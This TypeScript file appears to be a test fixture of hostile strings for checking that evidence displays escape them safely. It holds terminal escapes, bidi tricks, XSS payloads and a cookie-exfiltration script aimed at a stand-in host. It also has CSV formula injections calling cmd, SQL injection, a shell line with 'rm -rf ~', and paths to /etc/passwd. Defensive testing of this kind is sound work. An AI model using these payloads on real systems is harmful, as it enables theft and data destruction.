/** Texts that an attacker would write into command lines and names. Every place that shows evidence is held to all of them. */
export interface Hostile {
  readonly title: string;
  readonly text: string;
}

/** A text of a megabyte, with something to hide at its end. */
const LONG = `${'A'.repeat(1_000_000)}\u202e\u001b[2J`;

export const STRINGS: readonly Hostile[] = [
  { title: 'every C0 control but NUL', text: `c0${String.fromCharCode(...Array.from({ length: 31 }, (_, i) => i + 1))}c0` },
  { title: 'NUL', text: 'nul\u0000nul' },
  { title: 'delete and C1 controls', text: 'c1\u007f\u0080\u0085\u009b31m\u009fc1' },
  { title: 'a terminal that is cleared and coloured', text: 'ansi\u001b[2J\u001b[31;1mred\u001b[0m' },
  {
    title: 'a terminal’s title and a link',
    text: 'osc\u001b]0;owned\u0007\u001b]8;;http://198.51.100.7\u0007click\u001b]8;;\u0007',
  },
  { title: 'a device query', text: 'query\u001b[6n\u001bP$q"p\u001b\\' },
  { title: 'a direction override', text: 'invoice\u202egpj.exe' },
  { title: 'embeddings and isolates', text: 'bidi\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069\u200e\u200f\u061cend' },
  { title: 'zero-width text', text: 'zero\u200b\u200c\u200d\u2060\ufeffwidth' },
  { title: 'a soft hyphen and fillers', text: 'soft\u00ad\u034f\u115f\u3164\uffa0fill' },
  { title: 'tags and variation selectors', text: 'tag\u{e0041}\u{e0042}\ufe0f\u{e0100}end' },
  { title: 'line and paragraph separators', text: 'sep\u2028\u2029end' },
  { title: 'newlines', text: 'first\nsecond\r\nthird\rfourth' },
  { title: 'Hebrew and Arabic letters', text: 'cat שלום.txt مرحبا.log' },
  { title: 'Greek, Cyrillic and CJK letters', text: 'grep Ελλάδα Москва 日本語 中文 한국어' },
  { title: 'letters beyond the basic plane', text: 'echo 𝒳 😀 𠮷' },
  { title: 'combining marks', text: `zalgo ${'e\u0301\u0327\u0335'.repeat(40)}` },
  { title: 'a high surrogate alone', text: 'lone\ud800high' },
  { title: 'a low surrogate alone', text: 'lone\udc00low' },
  { title: 'a script', text: '<script>fetch("http://198.51.100.7/"+document.cookie)</script>' },
  { title: 'an image that fails', text: '"><img src=x onerror=alert(1)>' },
  { title: 'an SVG and a frame', text: "'><svg/onload=alert(1)><iframe src=javascript:alert(1)>" },
  { title: 'entities', text: '&lt;b&gt; &amp; &#0; &#x202e; &nbsp;' },
  { title: 'a template', text: '{{constructor.constructor("alert(1)")()}} $\u007b7*7} {@html x}' },
  { title: 'an address', text: 'javascript:alert(1)//http://198.51.100.7/' },
  { title: 'a formula with =', text: '=HYPERLINK("http://198.51.100.7?"&A1,"x")' },
  { title: 'a formula with +', text: "+1+cmd|'/C calc'!A0" },
  { title: 'a formula with -', text: "-2+3+cmd|'/C calc'!A0" },
  { title: 'a formula with @', text: "@SUM(1+1)*cmd|'/C calc'!A0" },
  { title: 'a formula behind a tab', text: '\t=1+1' },
  { title: 'a formula behind a carriage return', text: '\r=1+1' },
  { title: 'an apostrophe and a formula', text: "'=1+1" },
  { title: 'quotes, commas, semicolons', text: 'a,"b";\'c\'\\"d\\' },
  { title: 'SQL', text: '\'; DROP TABLE activity; -- " OR 1=1 /*' },
  { title: 'SQL wildcards and a regular expression', text: '%_*?[a-z]+(a+)+$\\d' },
  { title: 'a shell', text: '$(touch /tmp/owned) `id` ; rm -rf ~ | tee > /dev/null &' },
  { title: 'paths', text: '../../../../etc/passwd ..\\..\\windows /proc/self/environ' },
  { title: 'names of JavaScript', text: '__proto__ constructor toString hasOwnProperty' },
  { title: 'a format', text: '%s%n%d %x {0} %00 %0d%0a' },
  { title: 'text that looks like an escape of ours', text: '\\x1b[31m \\u{202e} \\n' },
  { title: 'PDF operators', text: ') Tj ET (/JS (app.alert(1)) >> endobj' },
  { title: 'XML and a stylesheet', text: ']]></style><!--<?xml?>--> @import url(//198.51.100.7)' },
  { title: 'spaces alone', text: '   \u00a0\u3000  ' },
  { title: 'a megabyte', text: LONG },
];
